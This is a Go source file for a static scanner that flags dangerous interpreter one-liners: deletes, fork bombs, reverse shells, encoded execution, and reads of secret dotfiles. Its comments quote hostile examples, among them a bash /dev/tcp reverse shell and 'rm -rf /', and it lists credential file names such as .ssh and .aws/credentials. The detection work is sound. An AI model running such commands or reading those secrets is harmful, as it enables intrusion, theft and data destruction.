// Package oneliner inspects interpreter one-liners (python -c, perl -e, ruby -e, node -e,
// php -r, awk programs, lua -e, osascript -e, pwsh -Command) for what they would do:
// delete, write, rename or link paths, run shell commands, fork without end, connect a
// shell to a socket, dump the environment, decode data and run it, send data over the
// network.
//
// It is a pattern layer over folded code, not an interpreter of these languages. Constant
// folding (fold.go) first replaces what names and values stand for — import aliases,
// variables assigned once, concatenations, the home directory's spellings, path joins,
// decoders of literals, getattr/send/call_user_func lookups of literal names — so that
// the patterns (patterns.go) and the file operations (fileops.go) read literal calls.
// What folding cannot see through — code, a module, a function or a path computed at run
// time, a name reversed or decoded — is reported in Result.Opaque and never guessed at.
// PowerShell, a shell, is read statement by statement (powershell.go). Code that prints,
// computes or reads its own inputs gives an empty Result.
package oneliner

import (
	"encoding/base64"
	"encoding/hex"
	"path"
	"regexp"
	"slices"
	"strings"
	"sync"
)

// Lang is an interpreter language.
type Lang string

// Languages inspected.
const (
	Python      Lang = "python"
	Perl        Lang = "perl"
	Ruby        Lang = "ruby"
	Node        Lang = "node"
	PHP         Lang = "php"
	Awk         Lang = "awk"
	Lua         Lang = "lua"
	AppleScript Lang = "osascript"
	// Go is read in source files the project keeps (a TestMain, a magefile, a
	// //go:generate tool); no command line hands Go code to an interpreter.
	Go Lang = "go"
)

// Interpreter describes a program that runs code: its language and the options whose
// value is the code.
type Interpreter struct {
	Lang      Lang
	CodeShort string   // short options whose value is code: "c" for python, "eE" for perl
	CodeLong  []string // long options whose value is code: "eval" for node
}

// Lookup returns the interpreter a program name runs (python3.12 is Python).
func Lookup(program string) (Interpreter, bool) {
	base := strings.TrimRight(program, "0123456789.-")
	if strings.HasSuffix(program, ".exe") {
		base = program
	}
	switch base {
	case "python", "pypy", "python3", "pypy3", "ipython", "ipython3":
		// IPython runs Python: -c CODE, a script, or what it reads on its input.
		return Interpreter{Lang: Python, CodeShort: "c"}, true
	case "perl":
		return Interpreter{Lang: Perl, CodeShort: "eE"}, true
	case "ruby", "jruby", "truffleruby":
		return Interpreter{Lang: Ruby, CodeShort: "e"}, true
	case "node", "nodejs", "bun", "deno":
		return Interpreter{Lang: Node, CodeShort: "ep", CodeLong: []string{"eval", "print"}}, true
	case "php":
		return Interpreter{Lang: PHP, CodeShort: "r"}, true
	case "awk", "gawk", "mawk", "nawk":
		return Interpreter{Lang: Awk}, true
	case "lua", "luajit":
		return Interpreter{Lang: Lua, CodeShort: "e"}, true
	case "osascript":
		return Interpreter{Lang: AppleScript, CodeShort: "e"}, true
	case "pwsh", "powershell", "pwsh.exe", "powershell.exe":
		// Its options are words of one dash, case-insensitive and abbreviable: the shell
		// package reads them itself (-Command, -EncodedCommand, -File).
		return Interpreter{Lang: PowerShell}, true
	}
	return Interpreter{}, false
}

// runsInput reports whether a program runs what it reads on its standard input as code.
func runsInput(program string) bool {
	switch program[strings.LastIndexByte(program, '/')+1:] {
	case "sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "python", "python3", "perl", "ruby", "node", "php", "lua":
		return true
	}
	return false
}

// Finding is something the code would do, by catalogued finding id.
type Finding struct {
	ID       string
	Evidence string
}

// Delete is a path the code deletes, as the code writes it (not resolved).
type Delete struct {
	Path      string
	Recursive bool
	// Entries, when set, says what is deleted is the entries of Path that a listing of
	// it gave, not Path itself: a glob below Path ("*", "**/*.tmp").
	Entries string
}

// Result is what the code would do, as far as the patterns see.
type Result struct {
	Findings []Finding
	// Shell lists the static shell command lines the code runs; an argument list
	// (subprocess.run(["rm", "-rf", "/"])) is joined into one line, quoted.
	Shell   []string
	Deletes []Delete
	Reads   []string // static paths opened for reading
	Trees   []string // static directories read whole (shutil.copytree, make_archive)
	Writes  []string // static paths opened for writing
	// Sends means the code sends data over the network (a POST, a socket write), so that
	// the caller can judge what it read as going out.
	Sends bool
	// Network means the code makes any network request or connection; EnvVars are the
	// environment variables it reads by name and URLHosts the hosts of the URLs written in
	// it, so that the caller can judge a secret variable sent to a host not of its service.
	Network  bool
	EnvVars  []string
	URLHosts []string
	// Opaque says why moat cannot see what the code does: code run from a value computed
	// at run time, a module or function looked up by a computed name, a file written or
	// deleted at a computed path. Each reason makes the command analysis.opaque.
	Opaque []string
	// Computed are the reasons of Opaque that are code the program runs from a value
	// computed at run time (eval of a fetched text, data unpickled): in any program, not
	// only a one-liner, that is code nobody has read.
	Computed []string

	// program is set by InspectProgram.
	program bool
	// computedWrites and computedDeletes are the expressions of paths written or deleted
	// that are computed at run time, as the code writes them (exe, $bin); deleteRec says
	// one such delete is recursive.
	computedWrites, computedDeletes []string
	deleteRec                       bool
	// dynamicRuns are the expressions of programs run that are computed at run time.
	dynamicRuns []string
}

// leadingName returns the variable an expression starts with ($bin . ' x', [exe]): what
// names a computed path or program in two places of the code.
func leadingName(expr string) string {
	expr = strings.TrimLeft(expr, " \t([")
	n := 0
	for n < len(expr) && (isNameByte(expr[n]) || n == 0 && (expr[n] == '$' || expr[n] == '@')) {
		n++
	}
	return expr[:n]
}

// Finding ids reported.
const (
	findDynamic     = "evasion.dynamic-command"
	findObfuscated  = "evasion.obfuscated-exec"
	findEncoded     = "evasion.encoded-command"
	findForkBomb    = "destructive.fork-bomb"
	findEnvDump     = "credentials.env-dump"
	findCredentials = "credentials.read"
	findKillAll     = "destructive.system.kill-all"
	findReverse     = "rce.reverse-shell"
	findPipeToShell = "rce.pipe-to-shell"
	findDownloadRun = "rce.download-exec"
	// findTLSOff: certificate checks switched off for every request the process makes, as
	// the shell's NODE_TLS_REJECT_UNAUTHORIZED=0 is.
	findTLSOff      = "supply-chain.registry-change"
	findDiskWipe    = "destructive.disk.wipe"
	findExhaustion  = "destructive.resource-exhaustion"
	findInfraDelete = "destructive.infra.delete"
)

// homePathLiteral matches a string literal holding a path below the home directory.
var homePathLiteral = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`["'](~/[^"'\s*?]+)["']`)
})

// homeNamed matches the home directory named in code, in any language moat reads.
var homeNamed = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`\bhomedir\(\s*\)|\bUserHomeDir\(\s*\)|\bPath\.home\(\s*\)|expanduser\(\s*["']~["']\s*\)|\bDir\.home\b|\$ENV\{\s*["']?HOME["']?\s*\}|getenv\(\s*["']HOME["']\s*\)|environ\[\s*["']HOME["']\s*\]|\bprocess\.env\.HOME\b`)
})

// dotPathLiteral matches a string literal holding a relative path that begins with a
// dotfile or dot directory: '.ssh/id_rsa', ".aws/credentials", '.netrc'.
var dotPathLiteral = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`["'](\.[A-Za-z][\w.-]*(?:/[\w.-]+)*)["']`)
})

// runsReceived reports whether one of the computed programs run (by the name of the
// variable holding it) was read from a connection: cmd = s.gets; IO.popen(cmd), a
// remote shell that names no shell.
func runsReceived(code string, runs []string) bool {
	for _, name := range runs {
		if name == "" {
			continue
		}
		re, err := regexp.Compile(`(?:^|[^\w$@])` + regexp.QuoteMeta(name) + `\s*:?=\s*[^\n;]*\.(?:gets|recv|recvfrom|read|readline|readLine|ReadString)\b`)
		if err == nil && re.MatchString(code) {
			return true
		}
	}
	return false
}

// dotfileName reports whether a relative path written in code names a dotfile or a
// dot directory ('.ssh', '.aws/credentials', '.bashrc'), not a file name's extension
// ('.json', '.xib'): a path under one, or one of the files and directories a home
// directory keeps its keys, settings and startup code in.
func dotfileName(p string) bool {
	if strings.Contains(p, "/") {
		return true
	}
	switch p {
	case ".ssh", ".aws", ".gnupg", ".kube", ".docker", ".azure", ".config", ".local", ".netrc", ".npmrc",
		".pypirc", ".gitconfig", ".git-credentials", ".env", ".bashrc", ".bash_profile", ".profile",
		".zshrc", ".zprofile", ".zshenv", ".claude", ".claude.json", ".cursor", ".codex", ".gemini",
		".mozilla", ".password-store", ".vault-token", ".terraformrc", ".cargo", ".m2", ".gradle":
		return true
	}
	return strings.HasPrefix(p, ".env.")
}

// maxDepth bounds how many times decoded code is inspected again.
const maxDepth = 3

// Inspect returns what code in language lang would do.
func Inspect(lang Lang, code string) Result {
	var r Result
	inspectAll(lang, code, &r)
	return r
}

// InspectProgram is Inspect for a unit of a program's source (Units): statements that
// only in a one-liner are one act are judged by what links them. A fork in an endless
// loop that waits for something on each turn (a server's accept, a sleep) is a server,
// not a fork bomb; a socket and a subprocess are a reverse shell only when the socket is
// handed to the process (dup2, a pty, a pipe) or the process is a shell.
func InspectProgram(lang Lang, code string) Result {
	r := Result{program: true}
	inspectAll(lang, code, &r)
	return r
}

func inspectAll(lang Lang, code string, r *Result) {
	inspect(lang, code, r, 0)
	if r.Sends {
		// Code that sends data and names a file under the home directory as written may
		// be sending that file, however it reads it (Path(p).expanduser().read_bytes() in
		// a loop over a list of them): the file is taken as read, a secret one as sent.
		for _, m := range homePathLiteral().FindAllStringSubmatch(code, maxCalls) {
			if !contains(r.Writes, m[1]) {
				r.Reads = append(r.Reads, m[1])
			}
		}
		// So does code that names the home directory and, apart, paths of dotfiles
		// relative to it ('.ssh/id_rsa' in a list joined to homedir() in a loop).
		home := homeNamed().MatchString(code)
		for _, m := range dotPathLiteral().FindAllStringSubmatch(code, maxCalls) {
			p := "~/" + m[1]
			if !home {
				// Without the home directory, a dotfile of the project: '.env' beside
				// the settings that post it.
				if !dotfileName(m[1]) {
					continue
				}
				p = m[1]
			}
			if !slices.ContainsFunc(r.Writes, func(w string) bool { return w == p || strings.HasPrefix(w, p+"/") }) {
				r.Reads = append(r.Reads, p)
			}
		}
	}
	if r.Network {
		// Code that fetches, writes a file and runs that file (a binary streamed to
		// /tmp/x, then execFileSync('/tmp/x'); urlretrieve(u, exe), then Popen([exe]))
		// runs what it downloaded.
		for _, line := range r.Shell {
			if f := strings.Fields(line); len(f) > 0 && contains(r.Writes, strings.Trim(f[0], `'"`)) {
				r.add(findDownloadRun, "runs "+f[0]+", which the code writes from the network")
				break
			}
		}
		for _, run := range r.dynamicRuns {
			if run != "" && contains(r.computedWrites, run) {
				r.add(findDownloadRun, "runs "+run+", which the code writes from the network")
				break
			}
		}
	}
	// A path written or deleted that the code computes may be any path it names: a file
	// under the home directory written out in it ('~/.bashrc' in a loop's list, '.ssh'
	// joined to the home directory) is taken as written or deleted.
	if len(r.computedWrites) > 0 || len(r.computedDeletes) > 0 {
		var named []string
		for _, m := range homePathLiteral().FindAllStringSubmatch(code, maxCalls) {
			named = append(named, m[1])
		}
		if homeNamed().MatchString(code) {
			for _, m := range dotPathLiteral().FindAllStringSubmatch(code, maxCalls) {
				if dotfileName(m[1]) {
					named = append(named, "~/"+m[1])
				}
			}
		}
		for _, p := range named {
			if len(r.computedWrites) > 0 && !contains(r.Writes, p) {
				r.Writes = append(r.Writes, p)
			}
			if len(r.computedDeletes) > 0 {
				r.Deletes = append(r.Deletes, Delete{Path: p, Recursive: r.deleteRec})
			}
		}
	}
	r.Reads, r.Trees, r.Writes, r.Opaque, r.Shell = dedupe(r.Reads), dedupe(r.Trees), dedupe(r.Writes), dedupe(r.Opaque), dedupe(r.Shell)
	r.Computed = dedupe(r.Computed)
	r.Deletes = dedupeDeletes(r.Deletes)
}

func dedupe(list []string) []string {
	var out []string
	for _, s := range list {
		if !contains(out, s) {
			out = append(out, s)
		}
	}
	return out
}

func dedupeDeletes(list []Delete) []Delete {
	var out []Delete
	for _, d := range list {
		if !slices.Contains(out, d) {
			out = append(out, d)
		}
	}
	return out
}

func inspect(lang Lang, code string, r *Result, depth int) {
	if lang == PowerShell {
		inspectPowerShell(code, r, depth)
		return
	}
	if e := exhausts(lang, code); e != "" {
		r.add(findExhaustion, e)
	}
	if d := destroysStore(lang, code); d != "" {
		r.add(findInfraDelete, d)
	}
	p, ok := patterns()[lang]
	if !ok || !mentionsAny(code, keywords()[lang]) {
		return
	}
	fd := fold(lang, code)
	code = fd.code
	r.Opaque = append(r.Opaque, fd.opaque...)
	for _, why := range fd.computed {
		r.computed(why)
	}
	r.computedWrites = append(r.computedWrites, fd.computedWrites...)
	r.computedDeletes = append(r.computedDeletes, fd.computedDeletes...)
	shellBefore := len(r.Shell)
	defer func() {
		// A command that a decoder of a literal gave is a command hidden by an encoding.
		for _, line := range r.Shell[shellBefore:] {
			for _, d := range fd.decoded {
				if d != "" && strings.Contains(line, strings.TrimSpace(d)) {
					r.add(findEncoded, line)
				}
			}
		}
	}()
	sinks(lang, code, fd, r, depth)
	fileAccesses(lang, code, r)
	execs := findAll(p.exec, code)
	if len(execs) > maxCalls {
		r.add(findDynamic, "more calls that run commands than moat reads")
		execs = execs[:maxCalls]
	}
	var quoted []span
	if len(execs) > 0 {
		quoted = stringSpans(lang, code)
	}
	for _, loc := range execs {
		if sp, ok := spanAt(quoted, loc[0]); ok && !strings.HasSuffix(code[loc[0]:loc[1]], "(") && !heldName(lang, code, sp, loc) {
			// "bundle exec rspec" inside a string is the string's text. A call written out
			// in a string ('os.system("…")') is code handed on to be run.
			continue
		}
		callArg(code, loc[1], lang, r)
	}
	if p.backticks {
		for _, lit := range backtickLiterals(lang, code) {
			r.Shell = append(r.Shell, lit)
		}
	}
	if p.shellTags {
		r.Shell = append(r.Shell, shellTemplates(code)...)
	}
	if lang == Python {
		r.Shell = append(r.Shell, shLibraryCalls(code)...)
	}
	for _, line := range r.Shell[shellBefore:] {
		// A shell or an interpreter started with no code of its own (open(F, "|-",
		// "sh"), subprocess.run(["bash"], input=…)) runs what the program writes to it.
		if f := strings.Fields(line); len(f) == 1 && codeReaders()[path.Base(f[0])] {
			r.Opaque = append(r.Opaque, f[0]+" runs the code this program writes to its standard input")
		}
	}
	for _, d := range p.deletes {
		for _, loc := range findAll(d.re, code) {
			from := loc[1]
			if d.inMatch {
				from = loc[0] + strings.IndexByte(code[loc[0]:loc[1]], '(') + 1
			}
			if path, ok := pathArg(code[from:]); ok {
				rec := d.recursive || d.recursiveIf != nil && d.recursiveIf.MatchString(callText(code, loc[1]))
				r.Deletes = append(r.Deletes, Delete{Path: path, Recursive: rec})
			} else if paths, ok := loopPaths(lang, code, code[from:]); ok {
				// for p in (Path.home(), Path('/tmp/x')): shutil.rmtree(p): each value.
				rec := d.recursive || d.recursiveIf != nil && d.recursiveIf.MatchString(callText(code, loc[1]))
				for _, path := range paths {
					r.Deletes = append(r.Deletes, Delete{Path: path, Recursive: rec})
				}
			} else if dir, ok := (asm{lang: lang}).homeComputedPath(code[from:]); ok {
				// rmSync(`${homedir()}/${d}`): some entry of a directory of the home
				// directory, computed at run time.
				rec := d.recursive || d.recursiveIf != nil && d.recursiveIf.MatchString(callText(code, loc[1]))
				r.Deletes = append(r.Deletes, Delete{Path: dir, Recursive: rec, Entries: "*"})
			} else if strings.TrimSpace(callText(code, from)) != "" {
				r.Opaque = append(r.Opaque, "deletes a path computed at run time: "+shorten(code[loc[0]:min(len(code), loc[1]+40)]))
				r.computedDeletes = append(r.computedDeletes, leadingName(code[from:]))
				r.deleteRec = r.deleteRec || d.recursive || d.recursiveIf != nil && d.recursiveIf.MatchString(callText(code, loc[1]))
			}
		}
	}
	for _, loc := range findAll(p.reads, code) {
		if path, ok := pathArg(code[loc[1]:]); ok && !isURL(path) {
			args := callText(code, loc[1])
			if lang == Perl {
				// open(F, "<file"), open(F, ">file"), open(STDIN, ">&S") (a duplicate).
				switch {
				case strings.Contains(path, "&") || strings.HasPrefix(path, "|") || strings.HasSuffix(path, "|"):
					continue
				case strings.HasPrefix(path, ">"):
					if w := strings.TrimSpace(strings.TrimLeft(path, ">")); w != "" {
						r.Writes = append(r.Writes, w) // open(F, ">file"); the 3-argument form is a file operation
					}
					continue
				case strings.HasPrefix(path, "<"):
					path = strings.TrimSpace(path[1:])
				}
			}
			if p.writeMode != nil && p.writeMode.MatchString(args) {
				r.Writes = append(r.Writes, path)
			} else {
				r.Reads = append(r.Reads, path)
			}
		} else if !ok && p.writeMode != nil && p.writeMode.MatchString(callText(code, loc[1])) {
			r.Opaque = append(r.Opaque, "writes a path computed at run time: "+shorten(code[loc[0]:min(len(code), loc[1]+40)]))
			r.computedWrites = append(r.computedWrites, leadingName(code[loc[1]:]))
		}
	}
	for _, loc := range findAll(p.pipeTo, code) {
		lit, ok := firstLiteralStrict(strings.TrimLeft(code[loc[1]-1:], " \t("))
		if !ok {
			r.add(findDynamic, shorten(strings.TrimSpace(code[loc[0]:min(len(code), loc[1]+40)])))
			continue
		}
		r.Shell = append(r.Shell, lit)
		if f := strings.Fields(lit); len(f) > 0 && runsInput(f[0]) {
			r.add(findDynamic, "writes text computed at run time into "+shorten(lit)+", which runs it")
		}
	}
	if p.pipeFrom != nil {
		for _, m := range p.pipeFrom.FindAllStringSubmatch(code, maxCalls) {
			r.Shell = append(r.Shell, strings.ReplaceAll(m[1], `\"`, `"`))
		}
	}
	for _, loc := range findAll(p.writes, code) {
		if path, ok := firstLiteral(code[loc[1]:]); ok {
			r.Writes = append(r.Writes, path)
		}
	}
	switch {
	case r.program && loopWaits().MatchString(code) && !matches(p.forkBomb, code):
		// A server forking for each connection it accepts.
	case matches(p.fork, code) && endlessLoop().MatchString(code) || matches(p.forkBomb, code):
		r.add(findForkBomb, match(p.fork, code)+" in an endless loop")
	case matches(p.exec, code) && endlessLoop().MatchString(code) && backgrounded().MatchString(code):
		// A shell command started in the background on every turn of an endless loop
		// (os.execute("lua x &"), system("php x &")) is a fork bomb through the shell.
		r.add(findForkBomb, match(p.exec, code)+" of a background command in an endless loop")
	}
	if matches(p.envDump, code) {
		r.add(findEnvDump, match(p.envDump, code))
	}
	if p.credStore != nil && matches(p.credStore, code) {
		r.add(findCredentials, match(p.credStore, code))
	}
	if p.tlsOff != nil && matches(p.tlsOff, code) {
		r.add(findTLSOff, "certificate checks switched off for every request: "+match(p.tlsOff, code))
	}
	if p.killAll != nil && matches(p.killAll, code) {
		r.add(findKillAll, match(p.killAll, code))
	}
	if matches(p.socket, code) && matches(p.shellish, code) && (!r.program || handedToShell().MatchString(code) || runsReceived(code, r.dynamicRuns)) {
		r.add(findReverse, match(p.socket, code))
	}
	if matches(p.send, code) {
		r.Sends = true
	}
	if matches(p.send, code) || matches(p.socket, code) || matches(p.download, code) {
		r.Network = true
	}
	if p.envRead != nil {
		for _, m := range p.envRead.FindAllStringSubmatch(code, maxCalls) {
			for _, name := range m[1:] {
				if name != "" {
					r.EnvVars = append(r.EnvVars, name)
				}
			}
		}
		for _, m := range urlHost().FindAllStringSubmatch(code, maxCalls) {
			r.URLHosts = append(r.URLHosts, strings.ToLower(m[1]))
		}
	}
	if p.evalCall != nil && p.decoder != nil {
		evals := findAll(p.evalCall, code)
		if len(evals) > maxCalls {
			r.add(findObfuscated, "more eval calls than moat reads")
			evals = evals[:maxCalls]
		}
		decodes := p.decoder.MatchString(code)
		downloads := p.download != nil && p.download.MatchString(code)
		for _, loc := range evals {
			if !decodes && !downloads {
				break
			}
			args := callText(code, loc[1])
			switch {
			case p.download != nil && p.download.MatchString(args):
				r.add(findPipeToShell, shorten(code[loc[0]:min(len(code), loc[1]+len(args))]))
			case p.decoder.MatchString(args):
				decoded, ok := decodeLiteral(args[p.decoder.FindStringIndex(args)[1]:])
				if ok && depth < maxDepth {
					r.add(findEncoded, shorten(decoded))
					inspect(lang, decoded, r, depth+1)
				} else {
					r.add(findObfuscated, shorten(code[loc[0]:min(len(code), loc[1]+len(args))]))
				}
			}
		}
	}
}

// computed records code run from a value computed at run time: opaque, and computed.
func (r *Result) computed(why string) {
	r.Opaque = append(r.Opaque, why)
	r.Computed = append(r.Computed, why)
}

func (r *Result) add(id, evidence string) {
	for _, f := range r.Findings {
		if f.ID == id {
			return
		}
	}
	r.Findings = append(r.Findings, Finding{ID: id, Evidence: shorten(evidence)})
}

// callArg reads the argument of a process-starting call whose "(" (or first argument)
// begins at i: a string literal is a command line, a list of literals an argument vector;
// anything else is a command known only at run time.
func callArg(code string, i int, lang Lang, r *Result) {
	rest := strings.TrimLeft(code[i:], " \t(")
	if strings.HasPrefix(rest, "[") {
		if argv, ok := literalList(rest); ok && len(argv) > 0 {
			r.Shell = append(r.Shell, joinArgv(argv))
			return
		}
	}
	if lit, ok := firstLiteralStrict(rest); ok && endsArg(rest[literalEnd(rest):]) {
		// spawn('rm', ['-rf', '/']) and system('rm', '-rf', '/') pass the words apart.
		after := strings.TrimLeft(rest[literalEnd(rest):], " \t")
		if strings.HasPrefix(after, ",") {
			after = strings.TrimLeft(after[1:], " \t")
			if argv, ok := literalList(after); ok {
				r.Shell = append(r.Shell, joinArgv(append([]string{lit}, argv...)))
				return
			}
			if lang == Perl || lang == Ruby || lang == PHP || lang == Python || lang == Go {
				// Python's asyncio.create_subprocess_exec('rm', '-rf', '/x') too.
				if words, ok := literalSeq(after); ok {
					r.Shell = append(r.Shell, joinArgv(append([]string{lit}, words...)))
					return
				}
			}
			if words, ok := (asm{lang: lang, code: code}).list(after); ok {
				// spawn('bash', ['-c', `bash -i >& /dev/tcp/${host}/${port} 0>&1`]): the
				// words as they become, computed values unknown.
				r.Shell = append(r.Shell, joinArgv(append([]string{lit}, words...)))
				return
			}
		}
		r.Shell = append(r.Shell, lit)
		return
	}
	if lang == Perl || lang == Ruby {
		// system pack "H*", "726d…": hex packed into a command.
		if m := packHex().FindStringSubmatch(rest); m != nil {
			if b, err := hex.DecodeString(m[1]); err == nil {
				r.add(findEncoded, shorten(string(b)))
				r.Shell = append(r.Shell, string(b))
				return
			}
		}
	}
	if line, ok := (asm{lang: lang, code: code}).line(rest); ok {
		// A line assembled from the program's text and computed values: judged as the
		// line it becomes, the computed values unknown.
		r.Shell = append(r.Shell, line)
		return
	}
	if line, ok := assignedLine(lang, code, rest); ok {
		// const cmd = `${tool} -s …`; execSync(cmd): the line the variable was assembled as.
		r.Shell = append(r.Shell, line)
		return
	}
	r.add(findDynamic, shorten(strings.TrimSpace(code[max(0, i-20):min(len(code), i+60)])))
	r.dynamicRuns = append(r.dynamicRuns, leadingName(rest))
}

// homeExpr matches the ways code names the home directory, optionally followed by a
// literal joined to it: os.homedir() + '/.aws/credentials'. Like patterns, it is compiled
// on first use.
var homeExpr = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`^\s*\(?\s*(process\.env\.HOME|process\.env\[["']HOME["']\]|(require\(\s*["']os["']\s*\)|os)\.homedir\(\s*\)|os\.path\.expanduser\(\s*["']~["']\s*\)|(pathlib\.)?Path\.home\(\s*\)|ENV\[["']HOME["']\]|Dir\.home|\$ENV\{HOME\}|getenv\(\s*["']HOME["']\s*\)|os\.environ\[["']HOME["']\])\s*(\+\s*)?`)
})

// pathArg reads a call's first argument as a path: a literal (possibly wrapped, as in
// os.path.expanduser('~/x')), or the home directory with a literal joined to it.
func pathArg(s string) (string, bool) {
	if m := homeExpr().FindStringIndex(s); m != nil {
		rest := s[m[1]:]
		if lit, ok := firstLiteralStrict(rest); ok {
			return "~/" + strings.TrimPrefix(lit, "/"), true
		}
		return "~", true
	}
	return firstLiteral(s)
}

// packHex matches pack "H*", "726d…", which packs hex digits into a string (a command).
var packHex = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`^pack\s*\(?\s*["']H\*["']\s*,\s*["']([0-9a-fA-F]+)["']`)
})

// callText returns the text of a call's arguments from i up to its closing parenthesis
// (or the end of the statement), bounded in length.
func callText(code string, i int) string {
	depth := 0
	end := min(len(code), i+400)
	for j := i; j < end; j++ {
		switch code[j] {
		case '(', '[', '{':
			depth++
		case ')', ']', '}':
			depth--
			if depth < 0 {
				return code[i:j]
			}
		case ';', '\n':
			if depth <= 0 {
				return code[i:j]
			}
		}
	}
	return code[i:end]
}

// decodeLiteral decodes the first base64 or hex string literal in s.
func decodeLiteral(s string) (string, bool) {
	lit, ok := firstLiteral(s)
	if !ok || lit == "" {
		return "", false
	}
	if strings.Contains(s, "hex") || strings.Contains(s, "H*") || strings.Contains(s, "fromhex") {
		if b, err := hex.DecodeString(lit); err == nil {
			return string(b), true
		}
	}
	for _, enc := range []*base64.Encoding{base64.StdEncoding, base64.RawStdEncoding, base64.URLEncoding, base64.RawURLEncoding} {
		if b, err := enc.DecodeString(lit); err == nil {
			return string(b), true
		}
	}
	return "", false
}

func match(re *regexp.Regexp, s string) string {
	if re == nil {
		return ""
	}
	return re.FindString(s)
}

func matches(re *regexp.Regexp, s string) bool {
	return re != nil && re.MatchString(s)
}

// mentionsAny reports whether code holds one of the words every pattern of its language
// needs, so that code which mentions none (most one-liners print or compute) costs a scan
// of its bytes instead of a run of every pattern.
func mentionsAny(code string, words []string) bool {
	for _, w := range words {
		if strings.Contains(code, w) {
			return true
		}
	}
	return false
}

// maxCalls bounds how many calls of one kind are read: code with more is not a one-liner,
// and reading every one would make inspection slow.
const maxCalls = 64

func findAll(re *regexp.Regexp, s string) [][]int {
	if re == nil {
		return nil
	}
	return re.FindAllStringIndex(s, maxCalls+1)
}

func isURL(s string) bool {
	return strings.HasPrefix(s, "http://") || strings.HasPrefix(s, "https://") || strings.HasPrefix(s, "ftp://")
}

func shorten(s string) string {
	s = strings.TrimSpace(s)
	if len(s) > 80 {
		return s[:77] + "..."
	}
	return s
}

// joinArgv joins words into a shell line, quoting those that need it.
func joinArgv(argv []string) string {
	var b strings.Builder
	for i, w := range argv {
		if i > 0 {
			b.WriteByte(' ')
		}
		if w != "" && !strings.ContainsAny(w, " \t\n'\"\\$`;&|<>()*?[]{}~#!") {
			b.WriteString(w)
			continue
		}
		if home, rest, _ := strings.Cut(w, "/"); home == "~" && !strings.ContainsAny(rest, " \t\n'\"\\$`;&|<>()*?[]{}~#!") {
			// ~ in an argument vector is what folding writes for the home directory
			// (os.path.expanduser('~'), Dir.home): it stays the home directory.
			b.WriteString(w)
			continue
		}
		b.WriteByte('\'')
		b.WriteString(strings.ReplaceAll(w, "'", `'\''`))
		b.WriteByte('\'')
	}
	return b.String()
}

// heldName reports whether the string at sp is only the name matched at loc, assigned to
// a variable in a language that calls functions by a name held in one (Perl's
// $f = "system"; &$f(…), PHP's $f = "system"; $f(…)): the name of what runs, not text.
func heldName(lang Lang, code string, sp span, loc []int) bool {
	if lang != Perl && lang != PHP {
		return false
	}
	inner := strings.Trim(code[sp.start:sp.end], "\"' ")
	return inner == strings.TrimSpace(code[loc[0]:loc[1]]) && strings.HasSuffix(strings.TrimSpace(code[:sp.start]), "=")
}
